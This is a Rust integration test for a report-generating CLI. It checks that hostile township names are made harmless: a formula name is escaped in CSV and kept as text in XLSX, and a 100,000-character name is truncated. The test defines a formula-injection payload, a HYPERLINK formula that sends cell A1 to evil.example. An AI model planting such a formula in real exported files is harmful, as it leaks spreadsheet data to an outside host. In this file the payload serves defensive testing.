//! Names from files are data, never code or a memory bomb (issue 14 item
//! 4): a township named like a spreadsheet formula is written to CSV with a
//! leading `'` and to the workbook as text; a 100,000-character name is cut
//! to `MAX_NAME_CHARS` with an ellipsis, so the report stays the size of a
//! normal one.

use serde_json::Value;
use std::io::Read as _;
use std::path::{Path, PathBuf};
use std::process::Command;

const EXE: &str = env!("CARGO_BIN_EXE_lifecircle");
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";

fn data(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("data")
        .join(name)
}

fn size_of(dir: &Path) -> u64 {
    std::fs::read_dir(dir)
        .unwrap()
        .map(|e| {
            let p = e.unwrap().path();
            if p.is_dir() {
                size_of(&p)
            } else {
                p.metadata().unwrap().len()
            }
        })
        .sum()
}

#[test]
fn formula_names_are_escaped_and_huge_names_are_cut() {
    let dir = std::env::temp_dir().join(format!("lifecircle-hostile-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let mut towns: Value =
        serde_json::from_str(&std::fs::read_to_string(data("townships.geojson")).unwrap()).unwrap();
    towns["features"][0]["properties"]["name"] = Value::from("镇".repeat(100_000));
    towns["features"][1]["properties"]["name"] = Value::from(FORMULA);
    let towns_path = dir.join("townships.geojson");
    std::fs::write(&towns_path, towns.to_string()).unwrap();
    let run = |townships: &Path, out: &Path| {
        let o = Command::new(EXE)
            .arg("report")
            .args(["--townships", townships.to_str().unwrap()])
            .args(["--facilities", data("facilities.geojson").to_str().unwrap()])
            .args(["--residents", data("residents.geojson").to_str().unwrap()])
            .args(["--roads", data("roads.geojson").to_str().unwrap()])
            .args(["--format", "csv,xlsx,json,html"])
            .args(["--out", out.to_str().unwrap()])
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    };
    let (plain, hostile) = (dir.join("plain"), dir.join("hostile"));
    run(&data("townships.geojson"), &plain);
    run(&towns_path, &hostile);

    // CSV: the formula is text.
    let csv = std::fs::read_to_string(hostile.join("coverage.csv")).unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let names: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[0].to_string())
        .collect();
    assert!(
        names.iter().any(|n| n == &format!("'{FORMULA}")),
        "{names:?}"
    );
    assert!(!names.iter().any(|n| n.starts_with('=')));

    // The huge name is cut, with an ellipsis, everywhere.
    let json: Value =
        serde_json::from_str(&std::fs::read_to_string(hostile.join("coverage.json")).unwrap())
            .unwrap();
    let first = json["townships"][0]["name"].as_str().unwrap();
    assert_eq!(first.chars().count(), lifecircle::io::MAX_NAME_CHARS + 1);
    assert!(first.ends_with('…'));
    assert_eq!(json["townships"][1]["name"], FORMULA);
    let (a, b) = (size_of(&plain), size_of(&hostile));
    assert!(b < a * 2, "outputs grew from {a} to {b} bytes");

    // XLSX: names are strings, and the workbook holds no formula at all.
    let mut zip =
        zip::ZipArchive::new(std::fs::File::open(hostile.join("report.xlsx")).unwrap()).unwrap();
    let mut all = String::new();
    for i in 0..zip.len() {
        let mut entry = zip.by_index(i).unwrap();
        if entry.name().unwrap().ends_with(".xml") {
            entry.read_to_string(&mut all).unwrap();
        }
    }
    assert!(
        all.contains("=HYPERLINK(") && all.contains("evil.example"),
        "name missing"
    );
    assert!(!all.contains("<f>"), "a formula cell in the workbook");
    let _ = std::fs::remove_dir_all(&dir);
}
